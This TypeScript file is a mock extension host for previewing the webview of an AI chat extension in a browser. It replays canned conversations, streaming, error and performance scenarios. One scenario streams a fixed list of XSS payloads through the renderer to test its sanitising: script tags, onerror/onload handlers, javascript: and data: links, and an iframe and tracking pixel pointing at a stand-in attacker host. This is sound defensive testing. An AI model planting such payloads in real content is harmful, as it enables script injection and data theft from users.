/**
 * A stand-in for the extension host in the standalone preview: defines acquireVsCodeApi, logs
 * every postMessage, answers the ready handshake and replays scenarios (?scenario=...) through
 * the same window message channel VS Code uses. Bundled for the browser by preview-webview.ts;
 * loaded before dist/webview.js.
 */
import type { ChatMessage, HostMessage, HostStateMessage, WebviewMessage } from '../../src/shared/protocol';

interface PreviewWindow extends Window {
  acquireVsCodeApi?: () => unknown;
  __posted: WebviewMessage[];
  __previewDone: boolean;
  __pwned: (what: string) => void;
  __pwnedBy: string[];
  __cspViolations: string[];
  __frameMs: number[];
}
const win = window as unknown as PreviewWindow;
const scenario = new URLSearchParams(location.search).get('scenario') ?? 'answer';
win.__posted = [];
win.__previewDone = false;
win.__pwnedBy = [];
win.__pwned = (what) => { win.__pwnedBy.push(what); };
win.__cspViolations = [];
document.addEventListener('securitypolicyviolation', (e) => { win.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`); });

// Time every animation-frame callback: the streaming renderer's per-frame cost, early vs late.
win.__frameMs = [];
const nativeRaf = window.requestAnimationFrame.bind(window);
window.requestAnimationFrame = (callback) => nativeRaf((t) => {
  const start = performance.now();
  callback(t);
  win.__frameMs.push(performance.now() - start);
});

const send = (message: HostMessage): void => window.postMessage(message, '*');
const sleep = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

const MODELS = [
  { id: 'anthropic/claude-sonnet-4-5', label: 'Claude Sonnet 4.5' },
  { id: 'openai/gpt-4o', missingKey: true },
  { id: 'gemini/gemini-2.5-flash' },
  { id: 'ollama_chat/llama3.2', local: true },
];

const HISTORY: ChatMessage[] = [
  { id: 'u1', role: 'user', text: 'What does Retry-After mean on a 429?', model: 'anthropic/claude-sonnet-4-5' },
  {
    id: 'a1', role: 'assistant', model: 'ollama_chat/llama3.2', fallback: { requestedModel: 'anthropic/claude-sonnet-4-5', reason: 'APIConnection: connect ECONNREFUSED' },
    text: 'It is the number of **seconds** (or an HTTP date) the server asks you to wait before trying again. Honour it instead of your own backoff when it is present.',
    usage: { inputTokens: 412, outputTokens: 58, totalTokens: 470 }, cost: 0, finishReason: 'stop',
  },
];

const ANSWER = `## Backing off on 429 and 5xx

The router is the **only** retry loop, so the transport just reports and the router decides:

1. Honour \`retry-after-ms\`, then \`retry-after\` (seconds or an HTTP date).
2. Otherwise use exponential backoff with jitter, capped at 30 s.
3. Never retry once the first token reached the user.

\`\`\`ts
export function backoffMs(attempt: number, retryAfterMs?: number): number {
  if (retryAfterMs !== undefined) return Math.min(retryAfterMs, 60_000);
  const base = Math.min(30_000, 250 * 2 ** attempt);
  return base / 2 + Math.random() * (base / 2); // full jitter keeps clients apart
}
\`\`\`

| status | retried | why |
|---|:-:|---|
| 408, 409, 429 | yes | transient: timeouts, lock conflicts, rate limits |
| 400, 401, 403 | no | the same request fails the same way |

> See [openai-node's retry rules](https://github.com/openai/openai-node#retries) for the reference behaviour.

Links the model makes up to editor commands stay text: [open settings](command:workbench.action.openSettings). Images are not loaded: ![diagram](https://example.com/backoff.png)
`;

const XSS = [
  '<script>window.__pwned("script")</script>',
  '<img src="https://evil.example/x.png" onerror="window.__pwned(\'img\')">',
  '[click](javascript:window.__pwned("link")) <javascript:window.__pwned("autolink")> [cmd](command:workbench.action.terminal.new)',
  '<iframe src="https://evil.example/"></iframe><svg onload="window.__pwned(\'svg\')"></svg>',
  '![tracker](https://evil.example/pixel.png?secret=abc) [data](data:text/html,<script>alert(1)</script>)',
  '<a href="https://evil.example" onmouseover="window.__pwned(\'hover\')">hover me</a> <style>body{display:none}</style>',
].join('\n\n');

function state(messages: ChatMessage[], extra: Partial<HostStateMessage> = {}): HostStateMessage {
  return {
    type: 'state', conversations: [{ id: 'c1', title: 'Retry-After', updatedAt: 2 }, { id: 'c0', title: 'Gemini keys', updatedAt: 1 }],
    activeConversationId: messages.length ? 'c1' : null, messages, draft: '', models: MODELS, currentModel: 'anthropic/claude-sonnet-4-5', offline: null, ...extra,
  };
}

/** Streams `text` in uneven chunks, as a provider does. */
async function stream(messageId: string, text: string, options: { stopAt?: number; delayMs?: number; model?: string } = {}): Promise<void> {
  send({ type: 'streamStart', conversationId: 'c1', messageId, model: options.model ?? 'anthropic/claude-sonnet-4-5' });
  const stopAt = options.stopAt ?? text.length;
  let i = 0;
  let n = 0;
  while (i < stopAt) {
    const size = 3 + ((n++ * 7) % 17);
    send({ type: 'streamDelta', messageId, text: text.slice(i, Math.min(i + size, stopAt)) });
    i += size;
    await sleep(options.delayMs ?? 4);
  }
  if (stopAt < text.length) return;
  const outputTokens = Math.round(text.length / 4);
  send({ type: 'streamEnd', messageId, usage: { inputTokens: 1311, outputTokens, totalTokens: 1311 + outputTokens }, cost: 0.000_003 * 1311 + 0.000_015 * outputTokens, finishReason: 'stop' });
}

async function run(requestId: string): Promise<void> {
  switch (scenario) {
    case 'empty':
      send({ ...state([]), inReplyTo: requestId });
      break;
    case 'error':
      send({ ...state([{ id: 'u1', role: 'user', text: 'Summarise the open file', model: 'openai/gpt-4o' }], { currentModel: 'openai/gpt-4o' }), inReplyTo: requestId });
      await sleep(50);
      send({ type: 'streamError', message: 'No API key is stored for openai. Set one, or pick a model that has a key.', kind: 'Authentication', actions: ['setKey', 'pickModel', 'retry'] });
      break;
    case 'xss':
      send({ ...state([]), inReplyTo: requestId });
      await stream('x1', XSS);
      break;
    case 'perf': {
      send({ ...state([]), inReplyTo: requestId });
      const block = (i: number): string => (i % 5 === 4 ? `\`\`\`py\nprint(${i})\n\`\`\`\n\n` : `Paragraph ${i} with **bold** text and a [link](https://example.com/${i}).\n\n`);
      await stream('p1', Array.from({ length: 600 }, (_, i) => block(i)).join(''), { delayMs: 1 });
      break;
    }
    default: {
      send({ ...state(HISTORY), inReplyTo: requestId });
      await sleep(30);
      send({ type: 'offline', notice: { active: true, model: 'ollama_chat/llama3.2', message: 'Anthropic is unreachable: answering with ollama_chat/llama3.2 until it is back.' } });
      send({ type: 'offline', notice: { active: false, message: 'Anthropic is reachable again: back to anthropic/claude-sonnet-4-5.' } });
      send({ type: 'messageAdded', conversationId: 'c1', message: { id: 'u2', role: 'user', text: 'How should the router back off on 429 and 5xx?\nKeep it short.', model: 'anthropic/claude-sonnet-4-5' } });
      await stream('a2', ANSWER, scenario === 'streaming' ? { stopAt: Math.floor(ANSWER.indexOf('| status')) } : {});
    }
  }
  await sleep(100);
  win.__previewDone = true;
}

win.acquireVsCodeApi = () => {
  let saved: unknown;
  return {
    postMessage(message: WebviewMessage): void {
      console.log('postMessage', JSON.stringify(message));
      win.__posted.push(message);
      if (message.type === 'ready') void run(message.requestId);
      if (message.type === 'send') {
        if (message.requestId) send({ type: 'reply', inReplyTo: message.requestId, ok: true });
        void stream(`a-${Date.now()}`, `You said:\n\n> ${message.text}\n\nThis preview has no model behind it.`, { model: message.model });
      }
      if (message.type === 'stop') send({ type: 'streamEnd', messageId: message.messageId ?? 'none', cost: null, finishReason: 'stopped' });
    },
    getState: () => saved,
    setState: (value: unknown) => { saved = value; },
  };
};
